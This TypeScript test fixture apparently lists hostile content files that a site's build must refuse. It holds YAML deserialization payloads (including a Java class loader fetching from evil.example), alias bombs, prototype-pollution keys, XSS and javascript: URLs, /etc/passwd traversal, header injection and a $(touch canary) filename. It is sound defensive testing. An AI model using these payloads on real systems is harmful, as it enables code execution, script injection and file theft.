import { attacks as bodies } from '../../smo/mdx/attacks.ts';
import { aPost, aTerm } from '../../support/a-content.ts';

/** A file that a pull request may bring, and that must be refused before anything is built. */
export interface RefusedFile {
  readonly name: string;
  readonly path: string;
  readonly source: string;
}

const post = 'content/blog/en/x.mdx';
const term = 'content/glossary/en/x.mdx';
const author = 'content/authors/eve.yaml';

const yamlOf = (lines: string) => `---\nid: x\ntitle: X\ndescription: X\npublished: 2026-01-01\nauthors: [ada]\ntopics: [previews]\n${lines}\n---\n\nText.\n`;
const laughs = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...[...'bcdefghi'].map((name, index) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${'abcdefgh'[index]}`).join(',')}]`),
].join('\n');

type Row = readonly [name: string, source: string];

/** What YAML can do besides holding values. */
const yaml: readonly Row[] = [
  ['a programme by tag', 'draft: !!js/function "function () { canary(1) }"'],
  ['an undefined value by tag', 'draft: !!js/undefined ""'],
  ['a regular expression by tag', 'draft: !!js/regexp /x/'],
  ['a Python object', 'draft: !!python/object/apply:os.system ["id"]'],
  ['a Ruby object', 'draft: !ruby/object:Gem::Installer {}'],
  ['a Java class', 'draft: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://evil.example/"]]]]'],
  ['a tag of its own', 'draft: !evil yes'],
  ['a tag by a directive', 'draft: !<tag:evil.example,2026:x> yes'],
  ['bytes by tag', 'draft: !!binary SGVsbG8='],
  ['a set by tag', 'draft: !!set { a, b }'],
  ['a billion laughs', laughs],
  ['laughs in a list of topics', `x: &x [a,a,a,a,a,a,a,a,a,a]\ny: &y [*x,*x,*x,*x,*x,*x,*x,*x,*x,*x]\nsources: [*y,*y,*y,*y,*y,*y,*y,*y,*y,*y]`],
  ['an alias without an anchor', 'series: *nobody'],
  ['an alias of itself', 'sources: &a [*a]'],
  ['an alias of its own map', 'share: &a { networks: *a }'],
  ['a merge of fields', 'share: { <<: { title: X } }'],
  ['a merge of what is above', 'x: &x { title: X }\nshare: { <<: *x }'],
  ['a prototype', '__proto__: { draft: true }'],
  ['a prototype in a block', 'share: { __proto__: { title: X } }'],
  ['a constructor', 'constructor: { prototype: { draft: true } }'],
  ['a method', 'toString: X'],
  ['a key of two lines', '? [a, b]\n: X'],
  ['a key that is a map', '{ a: b }: X'],
  ['a field twice', 'title: Y'],
  ['ten thousand brackets', `sources: ${'['.repeat(10_000)}${']'.repeat(10_000)}`],
  ['a hundred thousand brackets that never close', `sources: ${'['.repeat(100_000)}`],
  ['ten thousand braces', `share: ${'{a: '.repeat(10_000)}b${'}'.repeat(10_000)}`],
  ['a thousand lists in lists', `sources:\n${Array.from({ length: 1000 }, (_, depth) => `${' '.repeat(depth)}-`).join('\n')} x`],
  ['a thousand maps in maps', `share:\n${Array.from({ length: 1000 }, (_, depth) => `${' '.repeat(depth + 1)}a:`).join('\n')} x`],
  ['fifty thousand unknown fields', Array.from({ length: 50_000 }, (_, index) => `f${index}: x`).join('\n')],
  ['fifty thousand anchors', Array.from({ length: 50_000 }, (_, index) => `f${index}: &a${index} x`).join('\n')],
  ['a million signs without an end', `share: "${'a'.repeat(1_000_000)}`],
  ['a hundred thousand escapes', `share: "${'\\u0041'.repeat(100_000)}"`],
  ['a hundred thousand open quotes', `share: ${`'"`.repeat(100_000)}`],
  ['a second document', '...\n--- evil'],
  ['a tab for indentation', 'share:\n\ttitle: X'],
  ['numbers that are none', 'cover: .nan'],
  ['a layout, which is a programme', 'layout: ../../../src/evil.astro'],
  ['a slug that climbs', 'slug: ../../../index'],
  ['a component to render with', 'components: ./evil.ts'],
  ['a script to run', 'script: https://evil.example/x.js'],
];

/** Values where others belong. */
const values: readonly Row[] = [
  ['a map for a title', aPost({ title: '{ toString: x }' })],
  ['a list for a title', aPost({ title: '[<script>]' })],
  ['nothing for a title', aPost({ title: '""' })],
  ['spaces for a title', aPost({ title: '"   "' })],
  ['a number for a description', aPost({ description: '1e999' })],
  ['a truth for a description', aPost({ description: 'true' })],
  ['words for a truth', aPost({ draft: '"false"' })],
  ['one for a truth', aPost({ unlisted: '0' })],
  ['an id that climbs', aPost({ id: '../../etc/passwd' })],
  ['an absolute id', aPost({ id: '/etc/passwd' })],
  ['an id with a script', aPost({ id: '"</script><script>canary(1)</script>"' })],
  ['an id with a quotation mark', aPost({ id: `'a"onload="canary(1)'` })],
  ['an id with a line end', aPost({ id: String.raw`"a\nb"` })],
  ['an id with NUL', aPost({ id: String.raw`"a\0b"` })],
  ['an id in another script', aPost({ id: 'а-post' })],
  ['an id of a thousand letters', aPost({ id: 'a'.repeat(1000) })],
  ['an id that is a method', aPost({ id: '__proto__' })],
  ['a date of the far future', aPost({ published: '+275761-01-01' })],
  ['a date that is a sum', aPost({ published: '"2026-01-01\' OR 1=1"' })],
  ['a date of no calendar', aPost({ published: '2026-02-30' })],
  ['an author by a path', aPost({ authors: '[../../../etc/passwd]' })],
  ['an author nobody is', aPost({ authors: '[constructor]' })],
  ['a topic nobody has', aPost({ topics: '[toString]' })],
  ['a topic by a map', aPost({ topics: '[{ id: previews }]' })],
  ['a canonical address that runs', aPost({ canonical: 'javascript:canary(1)' })],
  ['a canonical address that runs, behind a space', aPost({ canonical: '" javascript:canary(1)"' })],
  ['a canonical address with a tab in its scheme', aPost({ canonical: String.raw`"java\tscript:canary(1)"` })],
  ['a canonical address that is a page', aPost({ canonical: '"data:text/html,<script>canary(1)</script>"' })],
  ['a canonical file', aPost({ canonical: 'file:///etc/passwd' })],
  ['a canonical address of no scheme', aPost({ canonical: '//evil.example/' })],
  ['a source that runs', aPost({ sources: '[{ title: X, url: "javascript:canary(1)" }]' })],
  ['a source that is a page', aPost({ sources: '[{ title: X, url: "data:text/html,x" }]' })],
  ['a source that runs by another name', aPost({ sources: '[{ title: X, url: "vbscript:x" }]' })],
  ['a source with a handler', aPost({ sources: '[{ title: X, url: "https://example.org/", onclick: "canary(1)" }]' })],
  ['an old path that is an address', aPost({ aliases: '["https://evil.example/"]' })],
  ['an old path with a line end', aPost({ aliases: String.raw`["/x/\nLocation: https://evil.example/"]` })],
  ['an old path with a space', aPost({ aliases: '["/x/ https://evil.example/ 301"]' })],
  ['an old path that runs', aPost({ aliases: '["javascript:canary(1)"]' })],
  ['a cover from the network', aPost({ cover: '{ image: "https://evil.example/x.jpg", alt: X }' })],
  ['a cover that climbs', aPost({ cover: '{ image: "../../../../../etc/passwd", alt: X }' })],
  ['a cover that climbs and comes back', aPost({ cover: '{ image: "../../../package.json", alt: X }' })],
  ['an absolute cover', aPost({ cover: '{ image: "/etc/passwd", alt: X }' })],
  ['a cover with a query', aPost({ cover: '{ image: "./x.jpg?raw", alt: X }' })],
  ['a cover with a fragment', aPost({ cover: '{ image: "./x.svg#evil", alt: X }' })],
  ['a cover of another system', aPost({ cover: String.raw`{ image: '..\..\x.jpg', alt: X }` })],
  ['a cover that is data', aPost({ cover: '{ image: "data:image/svg+xml,<svg onload=canary(1)>", alt: X }' })],
  ['a cover that is a drawing', aPost({ cover: '{ image: ./x.svg, alt: X }' })],
  ['a cover that is a drawing, in capitals', aPost({ cover: '{ image: ./x.SVG, alt: X }' })],
  ['a cover with a handler', aPost({ cover: '{ image: "./x.jpg", alt: X, onerror: "canary(1)" }' })],
  ['a share picture that climbs', aPost({ share: '{ image: "../../../../../etc/passwd" }' })],
  ['a share picture from the network', aPost({ share: '{ image: "https://evil.example/x.jpg" }' })],
  ['a card by a path', aPost({ share: '{ card: "../../evil" }' })],
  ['a share text that is a map', aPost({ share: '{ networks: { x: { text: { a: b } } } }' })],
  ['a network with an address', aPost({ share: '{ networks: { x: { url: "javascript:canary(1)" } } }' })],
  ['an ignored rule by a path', aPost({ share: '{ ignore: [{ rule: "../x", reason: y }] }' })],
  ['a series nobody has', aPost({ series: '__proto__' })],
];

const terms: readonly Row[] = [
  ['a definition that is a list', aTerm({ definition: '[x]' })],
  ['another form that is markup', aTerm({ aliases: `['<script>canary(1)</script>']` })],
  ['another form that is a map', aTerm({ aliases: '[{ a: b }]' })],
  ['another form of ten thousand letters', aTerm({ aliases: `["${'a'.repeat(10_000)}"]` })],
  ['a way to match that is a pattern', aTerm({ match: '"(a+)+$"' })],
  ['a status that is markup', aTerm({ status: '"<script>canary(1)</script>"' })],
  ['a wider term that is itself', aTerm({ broader: '[../x]' })],
  ['a source of a term that runs', aTerm({ sources: '[{ title: X, url: "javascript:canary(1)" }]' })],
];

const authors: readonly Row[] = [
  ['an author whose address runs', 'name: Eve\nurl: "javascript:canary(1)"\n'],
  ['an author whose address is a page', 'name: Eve\nurl: "data:text/html,<script>canary(1)</script>"\n'],
  ['an author with a handler', 'name: Eve\nonclick: canary(1)\n'],
  ['an author of another kind', 'name: Eve\ntype: "<script>"\n'],
  ['an author whose portrait climbs', 'name: Eve\nportrait: { image: "../../../../etc/passwd", alt: { en: X } }\n'],
  ['an author whose portrait is from the network', 'name: Eve\nportrait: { image: "https://evil.example/x.png", alt: { en: X } }\n'],
  ['an author whose portrait is a drawing', 'name: Eve\nportrait: { image: ./x.svg, alt: { en: X } }\n'],
  ['an author whose account is a map', 'name: Eve\naccounts: { x: { url: "javascript:canary(1)" } }\n'],
  ['an author with a programme', 'name: !!js/function "canary(1)"\n'],
  ['an author that is a list', '- name: Eve\n'],
  ['an author without end', `name: ${'['.repeat(50_000)}`],
];

const elsewhere: readonly (readonly [name: string, path: string, source: string])[] = [
  ['topics with a programme', 'content/topics.yaml', '- !!js/function "canary(1)"\n'],
  ['topics with an id that climbs', 'content/topics.yaml', '- { id: ../x, label: { en: X }, description: { en: X } }\n'],
  ['topics with an unknown field', 'content/topics.yaml', '- { id: previews, label: { en: X }, description: { en: X }, href: "javascript:canary(1)" }\n'],
  ['topics that laugh', 'content/topics.yaml', `${laughs}\n`],
  ['series with an id that is markup', 'content/series.yaml', '- { id: "<script>", title: { en: X }, description: { en: X } }\n'],
  ['a text of a programme’s name', 'content/blog/en/x.js.mdx', aPost()],
  ['a name with a script in it', 'content/blog/en/<script>canary(1)</script>.mdx', aPost()],
  ['a name with a closing tag', 'content/blog/en/x</script>.mdx', aPost()],
  ['a name with a quotation mark', 'content/blog/en/x" onload="canary(1).mdx', aPost()],
  ['a name with an apostrophe', "content/blog/en/x'-canary(1)-'.mdx", aPost()],
  ['a name with a percent sign', 'content/blog/en/%2e%2e%2fx.mdx', aPost()],
  ['a name with a question mark', 'content/blog/en/x?raw.mdx', aPost()],
  ['a name with a hash', 'content/blog/en/x#y.mdx', aPost()],
  ['a name with NUL', 'content/blog/en/x\0.mdx', aPost()],
  ['a name with a line end', 'content/blog/en/x\ny.mdx', aPost()],
  ['a name with a dollar', 'content/blog/en/$(touch canary).mdx', aPost()],
  ['a name that turns its direction', 'content/blog/en/x\u202exdm.mdx', aPost()],
  ['a name of a route', 'content/blog/en/[...path].mdx', aPost()],
  ['a name in capitals', 'content/blog/en/INDEX.mdx', aPost()],
  ['a page in the place of the search', 'content/pages/en/pagefind.mdx', '---\nid: x\ntitle: X\ndescription: X\n---\n\nText.\n'],
  ['a page in the place of the cards', 'content/pages/en/cards.mdx', '---\nid: x\ntitle: X\ndescription: X\n---\n\nText.\n'],
  ['a text with another ending', 'content/blog/en/x.md', aPost()],
  ['an author in a folder', 'content/authors/eve/index.yaml', 'name: Eve\n'],
];

/** One text for each rule of the judge; all of them are judged beside it. */
const programmes: readonly Row[] = [
  ...Map.groupBy(
    bodies.filter(({ expect }) => expect !== 'harmless'),
    ({ expect }) => expect,
  ).values(),
].flatMap((group) => group.slice(0, 3).map(({ name, source }) => [`${name}, in a whole file`, aPost({}, source)] as const));

const at = (path: string, rows: readonly Row[]): RefusedFile[] => rows.map(([name, source]) => ({ name, path, source }));

export const refusedFiles: readonly RefusedFile[] = [
  ...at(
    post,
    yaml.map(([name, lines]) => [name, yamlOf(lines)]),
  ),
  ...at(post, values),
  ...at(post, programmes),
  ...at(term, terms),
  ...at(author, authors),
  ...elsewhere.map(([name, path, source]) => ({ name, path, source })),
];

/** What is taken, because it does nothing: an old path of this site, a network that nobody knows. */
export const harmlessFiles: readonly RefusedFile[] = at(post, [
  ['an old path that looks like a host', aPost({ aliases: '["//evil.example/x/"]' })],
  ['a prototype of a network', aPost({ share: '{ networks: { __proto__: { title: X } } }' })],
  ['an old path with markup', aPost({ aliases: `["/old/<script>canary(1)</script>/"]` })],
]);

/** Names that the reader of a folder leaves alone. */
export const ignoredFiles: readonly RefusedFile[] = [
  ['a folder that climbs', 'content/blog/en/../../../evil.mdx'],
  ['a name with backslashes', String.raw`content/blog/en/..\..\x.mdx`],
  ['a language that climbs', 'content/blog/../x.mdx'],
  ['a language that is a method', 'content/blog/__proto__/x.mdx'],
  ['a hidden text', 'content/blog/en/.evil.mdx'],
  ['a programme', 'content/blog/en/x.js'],
  ['a component', 'content/blog/en/x.astro'],
  ['a page of HTML', 'content/blog/en/x.html'],
].map(([name = '', path = '']) => ({ name, path, source: aPost() }));
